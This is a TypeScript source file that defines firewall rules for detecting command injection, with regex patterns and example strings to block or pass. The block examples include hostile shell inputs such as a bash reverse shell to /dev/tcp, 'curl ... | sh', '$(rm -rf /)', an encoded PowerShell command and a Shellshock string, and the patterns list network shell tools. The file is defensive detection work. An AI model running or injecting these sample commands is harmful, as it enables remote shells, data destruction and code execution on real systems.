// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders are the attack
import { freeText, type WafRule } from "../rule.ts";

/** Signs of a shell. A separator, a program and an argument together; each of them alone is ordinary text. */
export const commandInjectionRules: readonly WafRule[] = [
  {
    id: "cmd-chained",
    class: "command_injection",
    severity: "critical",
    why: "a separator, a program's name and what only an argument looks like",
    targets: freeText,
    pattern:
      /(?:[;|&]|\$\(|`(?=\s?(?:curl|wget|nc|bash|sh)\b))\s?(?:\/(?:usr\/)?s?bin\/)?(?:cat|tac|less|head|tail|ls|dir|cp|mv|rm|chmod|chown|wget|curl|nc|ncat|netcat|telnet|bash|sh|zsh|python[23]?|perl|ruby|php|powershell|ping|nslookup|dig|kill|touch|find|grep|awk|sed)\s{1,3}(?:-{1,2}[a-z]|\/|~|\$|\.{1,2}\/|https?:|\d{1,3}\.\d{1,3}\.)/,
    examples: {
      blocks: [
        "x; cat /etc/issue",
        "1 | ls -la",
        "a && curl http://x.example",
        "$(rm -rf /)",
        "a;wget%20http://x.example/a",
      ],
      passes: [
        "rm -rf explained",
        "Salt & pepper; cat food",
        "R&D; find a partner",
        "`ls -la` lists files",
        "| id | name |",
      ],
    },
  },
  {
    id: "cmd-recon",
    class: "command_injection",
    severity: "critical",
    why: "a separator and a program that tells an intruder where they are",
    targets: freeText,
    pattern: /[;|&`]\s?(?:whoami|uname|ifconfig|ipconfig|netstat|printenv|nproc)(?:\s-[a-z]{1,4})?\s?(?:[;|&#]|$)/,
    examples: {
      blocks: ["x;whoami", "1 | uname -a", "&&ifconfig"],
      passes: ["What does whoami print?", "netstat; a history", "`whoami` prints your name"],
    },
  },
  {
    id: "cmd-sleep",
    class: "command_injection",
    severity: "critical",
    why: "a separator and a wait, which shows a blind intruder that the shell obeyed",
    targets: freeText,
    pattern: /(?:[;|&`]|\$\()\s?(?:sleep\s\d{1,4}|ping\s-[nc]\s\d{1,4}[^a-z]{0,20})\s?(?:[;|&#)`]|$)/,
    examples: {
      blocks: ["x; sleep 10", "$(sleep 5)", "1 & ping -n 10 127.0.0.1"],
      passes: ["Eat; sleep 8 hours; repeat", "Sleep 10"],
    },
  },
  {
    id: "cmd-short",
    class: "command_injection",
    severity: "warning",
    why: "a separator and a short program's name: also a list of column names",
    targets: freeText,
    pattern: /(?:[;|&`]|\$\()\s?(?:id|ls|pwd|dir|ps|env|reboot)\s?(?:[;|&#)`]|$)/,
    examples: { blocks: ["$(id)", "x;id;sleep 5"], passes: ["name;id;email", "Passport | ID", "Roll no & id"] },
  },
  {
    id: "cmd-substitution",
    class: "command_injection",
    severity: "critical",
    why: "command substitution of a program",
    targets: freeText,
    pattern: /\$\(\s?(?:cat|id|ls|whoami|curl|wget|nslookup|uname|printenv|bash|sh)\b[^)]{0,200}\)/,
    examples: { blocks: ["$(whoami)", "a$(curl x.example)"], passes: ["$(document).ready", "Fee is $(50)"] },
  },
  {
    id: "cmd-shell",
    class: "command_injection",
    severity: "critical",
    why: "how a shell is started, fed or connected to a socket",
    targets: freeText,
    pattern:
      /\/bin\/(?:ba|z|k|da)?sh\s-[ci]\b|\bbash\s-[ci]\s["']|\/dev\/(?:tcp|udp)\/|\bnc(?:at)?\s-[a-z]{0,4}e\s|\bpowershell(?:\.exe)?\s-(?:e|enc|encodedcommand|nop|w)\s|\bcmd(?:\.exe)?\s\/c\s|\$\{ifs\}|\$ifs\b|\(\)\s?\{\s?[:;_]|\b(?:curl|wget)\s[^|;]{1,200}\|\s?(?:sudo\s)?(?:ba|z)?sh\b/,
    examples: {
      blocks: [
        "/bin/sh -c id",
        "bash -i >& /dev/tcp/1.2.3.4/9",
        "cat${IFS}/x",
        "() { :;}; echo x",
        "curl x.example/a | sh",
        "powershell -enc SQBFAFgA",
      ],
      passes: ["Bash for beginners", "PowerShell - a course", "cmd and control"],
    },
  },
];
